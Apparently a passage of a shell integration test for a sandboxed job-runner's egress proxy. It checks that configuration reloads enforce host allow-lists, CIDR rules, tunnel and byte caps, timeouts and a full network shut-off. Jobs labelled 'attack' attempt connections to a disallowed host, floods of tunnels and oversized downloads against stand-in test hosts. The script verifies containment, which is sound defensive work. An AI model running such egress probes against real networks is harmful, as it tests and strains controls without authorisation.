phases:
  - name: one
    steps:
      - { id: get, kind: command, run: "curl -sS --max-time 10 http://allowed.test:8080/hello" }
      - { id: out, kind: command, allow_failure: true, run: "curl -sS --max-time 10 http://out.test:8080/x; echo rc=$?" }
      - { id: flood, kind: command, run: "touch /workspace/release; python3 egress_probe.py flood 12 /workspace" }
      - { id: big, kind: command, allow_failure: true, run: "curl -sS --max-time 20 --cacert ca.crt -o /dev/null https://allowed.test/big2m; echo rc=$?" }
EOF
head -c 2097152 /dev/zero >"$T/www/big2m"
submit reloaded attack
wait_for 60 is_done "$RUN"
check "before the reload: a run naming the preset fails ($(run_status "$RUN"))" [ "$(run_status "$RUN")" = failed ]
sed -i 's|^egress: .*|egress: { allow_cidrs: [ 10.77.0.0/24, 10.78.0.0/24 ], tunnels_per_run: 2, bytes_per_run: 1M, presets: { reloaded: [ "allowed.test", "allowed.test:8080", "out.test:8080" ] } }|' "$CONF"
kill -HUP "$SUP_PID"
check "SIGHUP reloads the configuration" wait_for 20 grep -q 'configuration reloaded' "$LOG"
run_shown reloaded attack 120 get out flood big
R9=$RUN
net "$R9" >"$T/net9"
sed 's/^/# /' "$T/net9"
check "after the reload: the run with the new preset succeeds ($(run_status "$R9"))" [ "$(run_status "$R9")" = succeeded ]
check "the new preset's entry reaches the test host" has 'hello from allowed.test' "$(out "$R9" get)"
check "the new allow_cidrs: 10.78.0.1 is no longer refused as private, it is connected to (no route)" \
	grep -q '^network.denied out.test:8080 connect to 10.78.0.1:8080' "$T/net9"
check "the new tunnels_per_run (2) holds" has '^ok=2 refused=10' "$(out "$R9" flood)"
check "the new bytes_per_run (1M) cuts a spliced TLS download short" has '^rc=(18|56)' "$(out "$R9" big)"
check "its refusal names the byte limit" grep -q '^network.denied allowed.test:443 the run.s byte limit (egress.bytes_per_run) is spent$' "$T/net9"
check "no more than the limit was relayed ($(netof "$R9" big))" \
	sh -c 'set -- $1; [ "$1" = 1 ] && [ "$2" = 1 ] && [ $(($3 + $4)) -gt 500000 ] && [ $(($3 + $4)) -le 1048576 ]' _ "$(netof "$R9" big)"
tmpl plainbig <<'EOF'
network: { presets: [ reloaded ] }
phases:
  - name: one
    steps:
      - { id: big, kind: command, allow_failure: true, run: "curl -sS --max-time 20 -o /dev/null http://allowed.test:8080/big2m; echo rc=$?" }
EOF
run_shown plainbig attack 60 big
net "$RUN" >"$T/net10"
sed 's/^/# /' "$T/net10"
check "bytes_per_run (1M) cuts a plain-HTTP answer short too" has '^rc=(18|56)' "$(out "$RUN" big)"
check "its refusal names the byte limit" grep -q '^network.denied allowed.test:8080 the run.s byte limit (egress.bytes_per_run) is spent$' "$T/net10"
check "no more than the limit was relayed ($(netof "$RUN" big))" \
	sh -c 'set -- $1; [ "$1" = 1 ] && [ "$2" = 1 ] && [ $(($3 + $4)) -gt 500000 ] && [ $(($3 + $4)) -le 1048576 ]' _ "$(netof "$RUN" big)"
check "egress was not restarted by the reload" [ "$(child_pid egress)" = "$EG2" ]

# ---- connect_timeout and idle_timeout, applied by a reload ----
# blackhole.test:8081 is a listener whose accept queue (backlog 0) one
# connection never accepted fills: the kernel drops every SYN after it, so a
# connect to it never completes
python3 -c 'import socket, sys, time
l = socket.socket(); l.bind(("10.77.0.2", 8081)); l.listen(0)
held = socket.create_connection(("10.77.0.2", 8081))
open(sys.argv[1], "w").close(); time.sleep(300)' "$T/hole.ready" &
HOLE=$!
wait_for 10 test -e "$T/hole.ready"
tmpl timeouts <<'EOF'
network: { allow: [ "allowed.test:8080", "blackhole.test:8081" ] }
phases:
  - name: one
    steps:
      - { id: idle, kind: command, run: "python3 egress_probe.py idle allowed.test:8080" }
      - { id: hole, kind: command, allow_failure: true,
          run: "t0=$(date +%s); curl -sS --max-time 30 -o /dev/null -w '%{http_code}' http://blackhole.test:8081/; echo \" after $(($(date +%s) - t0))s\"" }
EOF
sed -i 's|^egress: { |egress: { connect_timeout: 2, idle_timeout: 3, |' "$CONF"
NREL=$(grep -c 'configuration reloaded' "$LOG")
kill -HUP "$SUP_PID"
check "SIGHUP reloads connect_timeout 2 and idle_timeout 3" wait_for 20 sh -c "[ \$(grep -c 'configuration reloaded' '$LOG') -gt $NREL ]"
run_shown timeouts attack 90 idle hole
net "$RUN" >"$T/net11"
sed 's/^/# /' "$T/net11"
check "an idle tunnel is closed at idle_timeout (3 s)" has '^closed after (3|4|5)s$' "$(out "$RUN" idle)"
check "... after its 200" has '^HTTP/1.1 200' "$(out "$RUN" idle)"
check "a target that does not answer: 504 at connect_timeout (2 s)" has '^504 after (2|3|4)s$' "$(out "$RUN" hole)"
check "... its refusal names the address and the timeout" \
	grep -q '^network.denied blackhole.test:8081 10.77.0.2:8081 did not answer in time$' "$T/net11"
kill "$HOLE" 2>/dev/null

# ---- egress.enabled false: no run gets a way out, whatever its template asks ----
tmpl offnet <<'EOF'
network: { allow: [ "allowed.test:8080" ] }
phases:
  - name: one
    steps:
      - { id: get, kind: command, allow_failure: true, run: "curl -sS --max-time 10 http://allowed.test:8080/hello-off; echo rc=$?; cat /proc/net/tcp" }
EOF
sed -i 's|^egress: { |egress: { enabled: false, |' "$CONF"
NREL=$(grep -c 'configuration reloaded' "$LOG")
kill -HUP "$SUP_PID"
check "SIGHUP reloads egress.enabled false" wait_for 20 sh -c "[ \$(grep -c 'configuration reloaded' '$LOG') -gt $NREL ]"
run_shown offnet clean 60 get
check "with egress off the run's allowed host is not reached: its connection fails" has '^rc=(6|7)$' "$(out "$RUN" get)"
check "... no listener in its sandbox (nothing on port 3128, 0C38)" sh -c "! printf '%s' \"\$1\" | grep -q ':0C38 '" _ "$(out "$RUN" get)"
check "... no network event, and the test host saw nothing" \
	sh -c "[ \"\$1\" = 0 ] && ! grep -q 'GET /hello-off' '$T/www.log'" _ "$(psql_q "select count(*) from run_events where run_id = '$RUN' and type like 'network.%'")"

stop_daemon
check "the daemon stops cleanly" [ "$DAEMON_STATUS" -eq 0 ]
finish egress_proxy
